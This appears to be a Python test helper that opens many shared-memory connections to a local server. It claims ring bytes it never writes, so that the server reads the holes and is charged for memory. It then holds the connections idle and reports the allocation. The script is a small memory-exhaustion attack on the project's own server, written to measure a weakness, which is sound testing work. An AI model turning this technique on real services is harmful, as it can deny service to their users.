"""Run as nobody by pending/t_rt_idle_holes.sh: N CARRIER connections to root's server at
127.0.0.1:PORT, each with a 64 MiB ring toward it in which it claims CLAIM bytes it never
writes (holes) after PREFIX (a request that makes the server read them all). Once the server
has read them (its ring_tail), keeps every connection open and idle: prints "READ <bytes> by
<connections>", and after HOLD seconds "ALLOCATED <MiB>": the pages allocated in the
client-to-server blocks (SEEK_DATA), which the server's reads made, charged to the server, and
which stay for as long as the connections do.
Usage: idle_holes.py PORT N CLAIM PREFIX HOLD"""
import mmap, os, struct, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import colo_attack as ca
port, n, claim, prefix, hold = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4].encode().decode("unicode_escape").encode("latin-1"), float(sys.argv[5])
RING = 64 << 20
SIZE = ca.segment_size(RING, 0, 0)
C2S, DATA = ca.HEADER, 1024
S2C = ca.HEADER + (SIZE - ca.HEADER) // 2
conns = []
for i in range(n):
    t, ctl, fd = ca.carrier_offer(RING, port)
    a = ca.answer(ctl)
    if a != "WELCOME":
        print("answer", a, flush=True); break
    m = mmap.mmap(fd, SIZE)
    m[C2S + DATA:C2S + DATA + len(prefix)] = prefix
    struct.pack_into("<I", m, C2S + 12, RING)
    struct.pack_into("<Q", m, C2S, len(prefix) + claim)
    ca.ring(m, ca.SERVER_WAITING, ctl)
    end = time.time() + 20
    while time.time() < end and struct.unpack_from("<Q", m, C2S + 128)[0] < len(prefix) + claim:
        time.sleep(0.02)
    conns.append((t, ctl, fd, m))
print("READ", sum(struct.unpack_from("<Q", c[3], C2S + 128)[0] for c in conns), "by", len(conns), flush=True)
time.sleep(hold)
print("ALLOCATED %d" % (sum(ca.allocated(c[2], C2S, S2C) for c in conns) >> 20), flush=True)
